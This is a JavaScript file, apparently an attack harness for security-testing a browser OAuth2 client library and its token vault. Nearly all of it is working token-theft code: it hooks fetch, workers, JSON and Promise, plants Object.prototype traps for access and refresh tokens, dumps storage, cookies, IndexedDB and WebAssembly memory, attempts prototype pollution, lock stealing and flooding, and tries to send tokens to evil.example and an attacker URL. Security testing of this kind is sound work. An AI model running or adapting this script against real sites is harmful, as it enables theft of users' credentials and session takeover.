// A hostile script that runs before everything else in the page: it observes everything that the
// page's code uses, and asks for everything it can. Each attempt has a name; window.loot has its
// result as text under that name.
(() => {
  const { parse, stringify } = JSON;
  const { apply, ownKeys } = Reflect;
  const then = Promise.prototype.then;
  const push = Array.prototype.push;
  const native = {
    fetch: window.fetch.bind(window),
    Worker: window.Worker,
    SharedWorker: window.SharedWorker,
    MessageChannel,
    BroadcastChannel,
    setTimeout: window.setTimeout.bind(window),
    Response,
    Request,
    Blob,
  };
  const loot = (window.loot = {});
  /** Workers that the page's code has started. */
  const begun = [];
  const decoder = new TextDecoder();
  const decode = decoder.decode;
  let busy = false;
  /** If set, only this attempt records what it sees, because it causes what others would see. */
  let only;

  /** All text in a value, and a note if it contains a private key. */
  const texts = (value, depth = 0, out = []) => {
    if (out.length > 3000 || depth > 6 || value === null || value === undefined) return out;
    if (typeof value === 'string') return (push.call(out, value), out);
    if (typeof value !== 'object') return out;
    try {
      if (value instanceof CryptoKey) return (push.call(out, `CRYPTOKEY-${value.type}`), out);
      if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) return (push.call(out, apply(decode, decoder, [value])), out);
      if (value instanceof Headers || value instanceof URLSearchParams || value instanceof Map || value instanceof Set) {
        for (const part of value) texts(part, depth + 1, out);
        return out;
      }
      if (value instanceof native.Request || value instanceof native.Response) return texts([value.url, value.headers], depth + 1, out);
      if (value instanceof URL) return (push.call(out, value.href), out);
      if (value instanceof Node || value === window) return out;
      if (value instanceof Event) texts([value.detail, value.data], depth + 1, out);
      if (value instanceof Error) texts([value.message, value.stack, value.cause], depth + 1, out);
      for (const key of ownKeys(value)) if (typeof key === 'string') texts(value[key], depth + 1, out);
    } catch {
      // it cannot be inspected further
    }
    return out;
  };

  const see = (name, ...values) => {
    if (busy || (only && name !== only)) return;
    busy = true;
    const list = (loot[name] ??= []);
    for (const text of texts(values)) if (list.length < 20_000) push.call(list, text);
    busy = false;
  };

  /** Replaces a function by one that sees its arguments and its result. */
  const hook = (name, of, ...members) => {
    loot[name] ??= [];
    const isWorker = name.endsWith('Worker');
    for (const member of members) {
      const own = Object.getOwnPropertyDescriptor(of, member);
      if (!own || typeof own.value !== 'function') continue;
      const before = own.value;
      const spy = function (...args) {
        see(name, this === window ? undefined : args, ...args);
        const result = new.target ? Reflect.construct(before, args, new.target === spy ? before : new.target) : apply(before, this, args);
        see(name, result);
        if (isWorker && new.target) push.call(begun, result);
        if (result instanceof Promise) apply(then, result, [(value) => see(name, value), (error) => see(name, error)]);
        return result;
      };
      Object.setPrototypeOf(spy, before);
      spy.prototype = before.prototype;
      Object.defineProperty(of, member, { ...own, value: spy });
    }
  };

  /** Sees the events of handlers, however they are set. */
  const hears = (name, prototype) => {
    const add = prototype.addEventListener ?? EventTarget.prototype.addEventListener;
    const own = Object.getOwnPropertyDescriptor(prototype, 'onmessage');
    if (!own) return;
    Object.defineProperty(prototype, 'onmessage', {
      ...own,
      set(listener) {
        apply(add, this, ['message', ({ data }) => see(name, data)]);
        own.set.call(this, listener);
      },
    });
  };

  hook('hooks fetch', window, 'fetch');
  hook('hooks XMLHttpRequest', XMLHttpRequest.prototype, 'open', 'send', 'setRequestHeader');
  hook('hooks messages of ports', MessagePort.prototype, 'postMessage');
  hears('hooks messages of ports', MessagePort.prototype);
  hook('hooks Worker', window, 'Worker');
  hook('hooks Worker', Worker.prototype, 'postMessage');
  hears('hooks Worker', Worker.prototype);
  if (window.SharedWorker) hook('hooks SharedWorker', window, 'SharedWorker');
  hook('hooks MessageChannel', window, 'MessageChannel');
  hook('hooks messages of windows', window, 'postMessage');
  addEventListener('message', ({ data }) => see('hooks messages of windows', data), true);
  hook('hooks BroadcastChannel', window, 'BroadcastChannel');
  hook('hooks BroadcastChannel', BroadcastChannel.prototype, 'postMessage');
  hears('hooks BroadcastChannel', BroadcastChannel.prototype);
  hook('hooks ServiceWorker messages', ServiceWorker.prototype, 'postMessage');
  navigator.serviceWorker?.addEventListener('message', ({ data }) => see('hooks ServiceWorker messages', data));
  hook('hooks JSON', JSON, 'parse', 'stringify');
  hook('hooks prototypes of arrays', Array.prototype, 'push', 'map', 'filter', 'find', 'forEach', 'includes', 'join', 'flatMap', 'shift');
  hook('hooks prototypes of strings', String.prototype, 'split', 'slice', 'replace', 'replaceAll', 'startsWith', 'endsWith', 'indexOf', 'match');
  hook('hooks prototypes of maps', Map.prototype, 'get', 'set', 'has');
  hook('hooks Object and Reflect', Object, 'assign', 'entries', 'fromEntries', 'keys', 'hasOwn', 'freeze');
  hook('hooks Headers, Request and Response', Headers.prototype, 'set', 'append', 'get');
  hook('hooks Headers, Request and Response', window, 'Request', 'Response', 'Headers');
  hook('hooks Headers, Request and Response', Response.prototype, 'json', 'text', 'arrayBuffer');
  hook('hooks Headers, Request and Response', Request.prototype, 'json', 'text', 'arrayBuffer');
  if (crypto.subtle) hook('hooks WebCrypto', SubtleCrypto.prototype, 'generateKey', 'importKey', 'exportKey', 'sign', 'digest', 'encrypt', 'decrypt');
  hook('hooks WebCrypto', Crypto.prototype, 'getRandomValues', 'randomUUID');
  hook('hooks encodings', window, 'atob', 'btoa');
  hook('hooks encodings', TextDecoder.prototype, 'decode');
  hook('hooks encodings', TextEncoder.prototype, 'encode', 'encodeInto');
  hook('hooks URL', window, 'URL', 'URLSearchParams');
  hook('hooks URL', URLSearchParams.prototype, 'set', 'append', 'get', 'toString');
  hook('hooks events', window, 'CustomEvent', 'MessageEvent');
  hook('hooks events', EventTarget.prototype, 'dispatchEvent');
  hook('hooks locks', LockManager.prototype, 'request', 'query');
  hook('hooks errors', window, 'Error', 'TypeError', 'DOMException');
  hook('hooks streams', ReadableStreamDefaultController.prototype, 'enqueue');
  hook('hooks streams', ReadableStreamDefaultReader.prototype, 'read');
  hook('hooks storage', Storage.prototype, 'getItem', 'setItem');
  hook('hooks IndexedDB', IDBObjectStore.prototype, 'put', 'add', 'get');
  hook('hooks history and location', History.prototype, 'replaceState', 'pushState');
  Promise.prototype.then = function (done, failed) {
    return apply(then, this, [
      typeof done === 'function' ? (value) => (see('hooks Promise', value), done(value)) : done,
      typeof failed === 'function' ? (error) => (see('hooks Promise', error), failed(error)) : failed,
    ]);
  };
  for (const name of ['access_token', 'refresh_token', 'id_token', 'code_verifier', 'session', 'jwk', 'privateKey'])
    Object.defineProperty(Object.prototype, name, {
      configurable: true,
      get: () => undefined,
      set(value) {
        see('sets traps on Object.prototype', `${value}`);
        Object.defineProperty(this, name, { value, configurable: true, writable: true, enumerable: true });
      },
    });
  if (window.WebAssembly) {
    const memories = [];
    const { instantiate } = WebAssembly;
    WebAssembly.instantiate = async (...args) => {
      const result = await apply(instantiate, WebAssembly, args);
      const { exports } = result.instance ?? result;
      memories.push(...Object.values(exports).filter((one) => one instanceof WebAssembly.Memory));
      return result;
    };
    window.readMemories = () => memories.forEach((memory) => see('reads the memory of modules', apply(decode, decoder, [new Uint8Array(memory.buffer)])));
  }

  const wait = (ms) => new Promise((resolve) => native.setTimeout(resolve, ms));
  const tryAll = async (name, calls) => {
    for (const call of calls) {
      try {
        see(name, await Promise.race([call(), wait(2_000)]));
      } catch (error) {
        see(name, error);
      }
    }
  };

  /** All commands of the module, and some that do not exist, as messages to a vault. */
  const commands =
    'authorize callback matches exchange token prepare answered refresh userinfo profile extend device_start device_wait poll_start poll_stop client_credentials token_exchange jwt_bearer register resource_metadata front_channel_logout introspect set_token status export look cancel perform __proto__ constructor toString hasOwnProperty valueOf'.split(
      ' ',
    );
  const parameters = [
    {},
    { held: true, force: true, url: 'https://x.example/?code=c&state=s', method: 'GET', code: 'c', token: 'access_token', status: 401, headers: [], sent: 'x' },
    { url: window.apiUrl, method: 'GET' },
    { insecure_code_verifier: 'v'.repeat(43), insecure_state: 's', insecure_nonce: 'n' },
    parse('{"__proto__":{"insecureTokenAccess":true},"constructor":{"prototype":{"insecureTokenAccess":true}}}'),
  ];
  const messages = () => [
    ...commands.flatMap((command) => parameters.map((given) => ({ command, parameters: given }))),
    ...commands.map((command) => ({ command: [command], parameters: {} })),
    { config: { insecureTokenAccess: true } },
    { options: { insecureTokenAccess: true } },
    { insecureTokenAccess: true },
    { open: {} },
    { hooks: {} },
    { hello: true },
    { load: 'session' },
    parse('{"__proto__":{"insecureTokenAccess":true}}'),
    { command: 'token', insecureTokenAccess: true },
    { fetch: { url: window.apiUrl, method: 'GET', headers: [] } },
    ...(window.words ?? []),
    { fetch: { url: `${window.evilUrl}/evil`, method: 'GET' } },
    { fetch: { url: window.tokenUrl, method: 'POST', body: 'grant_type=refresh_token' } },
    { pull: true },
    { abort: true },
    null,
    'token',
    7,
  ];
  /** Sends all of them to a port or worker, each with a port for the answer. */
  const talk = async (name, port) => {
    port.addEventListener('message', ({ data }) => see(name, data));
    port.start?.();
    let id = 1e6;
    for (const message of messages()) {
      const { port1, port2 } = new native.MessageChannel();
      port1.onmessage = ({ data }) => see(name, data);
      port.postMessage(message && typeof message === 'object' ? { ...message, id: id++ } : message, [port2]);
    }
    await wait(2_500);
  };

  const databases = async (name) => {
    for (const { name: db } of await indexedDB.databases()) {
      const open = await new Promise((resolve, reject) => {
        const request = indexedDB.open(db);
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
      for (const table of open.objectStoreNames) {
        const all = open.transaction(table).objectStore(table).getAll();
        see(name, await new Promise((resolve) => (all.onsuccess = () => resolve(all.result))));
      }
      open.close();
    }
  };
  const mark = { 'x-oauth2-wasm-keeper': '1' };
  const keeperAsks = (fetch) => [
    () => fetch(window.vaultUrl, { headers: mark }).then((r) => r.text()),
    () => fetch(window.vaultUrl, { headers: mark, cache: 'only-if-cached', mode: 'same-origin' }).then((r) => r.text()),
    () => fetch(window.vaultUrl, { method: 'POST', headers: mark, body: '{"load":"session"}' }).then((r) => r.text()),
    () =>
      fetch(window.tokenUrl, {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: 'grant_type=refresh_token',
        credentials: 'omit',
      }).then((r) => r.text()),
  ];
  const inFrame = async (src) => {
    const frame = document.createElement('iframe');
    frame.src = src;
    document.documentElement.append(frame);
    await wait(1_500);
    return frame.contentWindow;
  };
  /** The attacker's own worker, whose fetch is hooked before the vault's script runs in it. */
  const evilWorker = `const f = self.fetch; self.fetch = async (...a) => { const r = await f(...a); postMessage([String(a[0]), a[1]?.body && String(a[1].body), await r.clone().text()]); return r; };
    const on = self.onmessage; import(VAULT).then(() => self.dispatchEvent(new MessageEvent('message', { data: { id: 1, command: 'export' } })), (e) => postMessage(String(e)));
    fetch(VAULT, { headers: { 'x-oauth2-wasm-keeper': '1' } }).catch((e) => postMessage(String(e)));`;

  /** The attempts that use the client, once somebody is signed in. */
  window.attempts = {
    'reads localStorage, sessionStorage and cookies': (name) => see(name, { ...localStorage }, { ...sessionStorage }, document.cookie),
    'reads every IndexedDB database': databases,
    'reads CacheStorage': async (name) => {
      for (const cache of await caches.keys())
        for (const request of await (await caches.open(cache)).keys()) see(name, request.url, await (await caches.match(request)).text());
    },
    'reads the private file system': async (name) => {
      for await (const [file, handle] of (await navigator.storage.getDirectory()).entries()) see(name, file, await (await handle.getFile?.())?.text());
    },
    'reads history, name, referrer and resource timings': (name) =>
      see(
        name,
        history.state,
        window.name,
        document.referrer,
        location.href,
        performance.getEntries().map((entry) => entry.name),
      ),
    'asks the client for tokens': (name) =>
      tryAll(
        name,
        ['token', 'export', 'tokenExchange', 'introspect', 'register', 'clientCredentials', 'getTokenSilently', 'getAccessToken', 'getValidTokenAsync'].map(
          (member) => () => window.client[member]?.(),
        ),
      ),
    'asks the client for everything else': (name) =>
      tryAll(
        name,
        ['status', 'userinfo', 'profile', 'authorize', 'refresh', 'resourceMetadata', 'getUser', 'getIdTokenClaims', 'userInfoAsync'].map(
          (member) => () => window.client[member]?.({ url: window.apiUrl }),
        ),
      ),
    'looks into the client': (name) => {
      for (let of = window.client; of && of !== Object.prototype; of = Object.getPrototypeOf(of)) {
        const members = Object.getOwnPropertyDescriptors(of);
        see(name, members);
        for (const [member, { get }] of Object.entries(members)) if (get && member !== '__proto__') see(name, window.client[member]);
      }
      see(name, window.client);
    },
    'imports the library and uses its inside': async (name) => {
      for (const path of window.libraryUrls) {
        const library = await import(path);
        see(name, library);
        const run = library.Client?.runOf?.(window.client);
        if (run)
          await tryAll(
            name,
            ['token', 'export', 'prepare', 'answered'].map((command) => () => run(command, { url: window.apiUrl, method: 'GET', status: 401, headers: [] })),
          );
        if (library.Client)
          await tryAll(name, [
            () => library.Client.prototype.token.call(window.client),
            () => library.Client.prototype.export.call(window.client),
            () => library.Client.prototype.fetch.call(window.client, window.apiUrl),
          ]);
      }
    },
    'imports the vault into the page': (name) => tryAll(name, [() => import(window.vaultUrl)]),
    'speaks to the workers that the page\u2019s code began': async (name) => {
      for (const worker of begun) await talk(name, worker.port ?? worker);
    },
    'renames an endpoint of the server, in messages of the library\u2019s own kind': async (name) => {
      only = name;
      await tryAll(
        name,
        window.tricks ?? [
          async () => {
            const renamed = {
              ...window.clientConfig,
              token_destinations: [window.tokenUrl],
              revocation_endpoint: window.tokenUrl,
              userinfo_endpoint: window.tokenUrl,
            };
            const { port } = native.SharedWorker
              ? new native.SharedWorker(window.vaultUrl, { type: 'module', extendedLifetime: true })
              : { port: new native.Worker(window.vaultUrl, { type: 'module' }) };
            port.addEventListener('message', ({ data }) => see(name, data));
            port.start?.();
            for (const message of [
              { config: renamed },
              { id: 1, command: 'open', parameters: { config: renamed } },
              { id: 2, command: 'userinfo', config: renamed },
            ])
              port.postMessage(message);
            port.postMessage({
              id: 3,
              fetch: {
                url: window.tokenUrl,
                method: 'POST',
                headers: [['content-type', 'application/x-www-form-urlencoded']],
                body: 'grant_type=refresh_token',
              },
            });
            await wait(1_000);
          },
        ],
      );
      only = undefined;
    },
    'opens a line of its own to the shared worker': async (name) => {
      if (!native.SharedWorker) return;
      for (const more of [{}, { extendedLifetime: true }]) {
        const { port } = new native.SharedWorker(window.vaultUrl, { type: 'module', ...more });
        await talk(name, port);
      }
    },
    'begins a worker of the vault': async (name) => {
      const worker = new native.Worker(window.vaultUrl, { type: 'module' });
      await talk(name, worker);
    },
    'begins a worker of the vault by another URL of it': async (name) => {
      for (const more of ['?x', '#x']) {
        const worker = new native.Worker(window.vaultUrl + more, { type: 'module', name: 'insecureTokenAccess' });
        await talk(name, worker);
      }
    },
    'runs the vault in a worker of its own with another fetch': async (name) => {
      const script = evilWorker.replaceAll('VAULT', stringify(new URL(window.vaultUrl, location.href).href));
      for (const url of [URL.createObjectURL(new Blob([script], { type: 'text/javascript' })), '/evil-worker.js']) {
        const worker = new native.Worker(url, { type: 'module' });
        worker.onmessage = ({ data }) => see(name, data);
        await wait(1_500);
      }
    },
    'asks the keeper from the page': (name) => tryAll(name, keeperAsks(native.fetch)),
    'asks the keeper from a frame of the vault\u2019s script': async (name) => {
      const inside = await inFrame(window.vaultUrl);
      await tryAll(
        name,
        keeperAsks((...args) => inside.fetch(...args)),
      );
      const script = `fetch(${stringify(new URL(window.vaultUrl, location.href).href)}, { headers: { 'x-oauth2-wasm-keeper': '1' } }).then((r) => r.text()).then(postMessage, (e) => postMessage(String(e)))`;
      const worker = new inside.Worker(inside.URL.createObjectURL(new inside.Blob([script], { type: 'text/javascript' })));
      worker.onmessage = ({ data }) => see(name, data);
      await wait(1_000);
    },
    'sends messages to every service worker': async (name) => {
      for (const registration of (await navigator.serviceWorker?.getRegistrations()) ?? []) {
        const { port1, port2 } = new native.MessageChannel();
        port1.onmessage = ({ data }) => see(name, data);
        if (registration.active) await talk(name, Object.assign(new EventTarget(), { postMessage: (...args) => registration.active.postMessage(...args) }));
        registration.active?.postMessage({ load: 'session' }, [port2]);
      }
      await wait(1_000);
    },
    'puts a service worker of its own in the keeper\u2019s place': (name) =>
      tryAll(
        name,
        [URL.createObjectURL(new Blob(['onfetch = (e) => 0'], { type: 'text/javascript' })), 'data:text/javascript,0'].map(
          (url) => () => navigator.serviceWorker.register(url, { scope: window.vaultUrl }),
        ),
      ),
    'listens on every BroadcastChannel of the library': async (name) => {
      const href = new URL(window.vaultUrl, location.href).href;
      const links = [`oauth2-wasm.vault ${href}`, 'oauth2-wasm.vault', 'oauth2-wasm.store oauth2-wasm', 'oauth2-wasm.idle'].map(
        (channel) => new native.BroadcastChannel(channel),
      );
      for (const link of links) link.onmessage = ({ data }) => see(name, data);
      await window.client.refresh?.().catch(() => {});
      for (const link of links) link.postMessage({ token: true, command: 'export' });
      await wait(1_000);
      links.forEach((link) => link.close());
    },
    'takes the vault\u2019s lock away': async (name) => {
      const { held } = await navigator.locks.query();
      see(
        name,
        held.map((lock) => lock.name),
      );
      for (const lock of held)
        if (lock.name.startsWith('oauth2-wasm.vault ')) void navigator.locks.request(lock.name, { steal: true }, () => wait(100)).catch(() => {});
      await wait(2_000);
      see(name, await window.client.status?.().catch((error) => error));
    },
    'has the token sent elsewhere': (name) =>
      tryAll(
        name,
        [
          `${window.evilUrl}/evil`,
          `${window.apiUrl}@evil.example/`,
          `${window.apiUrl}/../../evil`,
          `${window.apiUrl}/away`,
          window.tokenUrl,
          `${window.tokenUrl}/`,
          window.tokenUrl.replace('token', '%74oken'),
        ].map((url) => async () => {
          const response = await window.client.fetch?.(url, { method: 'POST', body: new URLSearchParams({ grant_type: 'refresh_token' }), redirect: 'follow' });
          return response && [response, await response.text()];
        }),
      ),
    'asks an API with headers of its own': (name) =>
      tryAll(
        name,
        [{ authorization: 'Bearer x' }, { host: 'evil.example' }, { 'content-type': 'x-oauth2-wasm-keeper' }].map((headers) => async () => {
          const response = await window.client.fetch?.(window.apiUrl, { headers });
          return response && [response, await response.text()];
        }),
      ),
    'begins a sign-in that gives the secret away': (name) =>
      tryAll(
        name,
        [
          { insecure_code_verifier: 'v'.repeat(43) },
          { parameters: { response_type: 'token' } },
          { parameters: { code_challenge: 'x', code_challenge_method: 'plain' } },
          { response_mode: 'fragment' },
          { parameters: [['code_verifier', 'x']] },
        ].map((given) => () => window.client.authorize?.(given)),
      ),
    'provokes errors of every kind': (name) =>
      tryAll(name, [
        () => window.client.callback?.({ url: `${location.origin}/?code=c&state=s` }),
        () => window.client.callback?.({ url: 'x'.repeat(100_000) }),
        () => window.client.userinfo?.(),
        () => window.client.fetch?.('http://127.0.0.1:1/'),
        () => window.client.fetch?.(`${window.apiUrl}/echo`).then((r) => r.status),
      ]),
    'floods the vault': async (name) => {
      if (!native.SharedWorker) return;
      const { port } = new native.SharedWorker(window.vaultUrl, { type: 'module', extendedLifetime: true });
      port.onmessage = ({ data }) => see(name, data);
      for (let id = 0; id < 2_000; id++) port.postMessage({ id, command: id % 2 ? 'status' : 'token', parameters: {} });
      await wait(1_000);
    },
    'reads the memory of modules': () => window.readMemories?.(),
  };
  window.see = see;
  loot['hooks Promise'] ??= [];
  loot['sets traps on Object.prototype'] ??= [];

  /** Makes all `attempts`, and says for each how much it saw and which secrets were in it. */
  window.attack = async () => {
    for (const [name, attempt] of Object.entries(window.attempts)) {
      loot[name] ??= [];
      await Promise.race([(async () => attempt(name))().catch((error) => see(name, error)), wait(20_000)]);
    }
  };
  /**
   * `backwards`: the verifiers, reversed so that passing them here does not itself count as a find.
   */
  window.found = (backwards) => {
    busy = true;
    const verifiers = backwards.map((text) => [...text].reverse().join(''));
    const secret = /(ACCESS|REFRESH|IDTOKEN|EXTRA)-\w+|CRYPTOKEY-private|eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+/g;
    const rows = Object.entries(loot).map(([name, list]) => {
      const hits = new Set();
      for (const text of list) {
        for (const [hit] of text.matchAll(secret)) hits.add(hit.replace(/^eyJ.*/, 'JWT'));
        if (verifiers.some((verifier) => text.includes(verifier))) hits.add('VERIFIER');
      }
      return [name, { seen: list.length, secrets: [...hits].map((hit) => hit.replace(/-.*/, '')).filter((hit, i, all) => all.indexOf(hit) === i) }];
    });
    busy = false;
    return Object.fromEntries(rows);
  };
})();
